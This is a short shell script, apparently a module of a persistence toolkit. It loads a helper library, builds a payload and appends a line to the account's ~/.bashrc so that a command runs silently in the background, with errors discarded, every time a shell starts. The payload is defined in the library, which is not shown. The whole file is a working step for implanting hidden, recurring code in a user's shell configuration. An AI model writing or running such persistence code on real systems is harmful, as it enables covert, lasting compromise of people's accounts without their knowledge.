#!/bin/sh
# bashrc: a line more in an account's .bashrc (bash(1))
. "${0%/*}/lib.sh"
payload
append "$home/.bashrc" "$head" "($cmd) 2>/dev/null &"
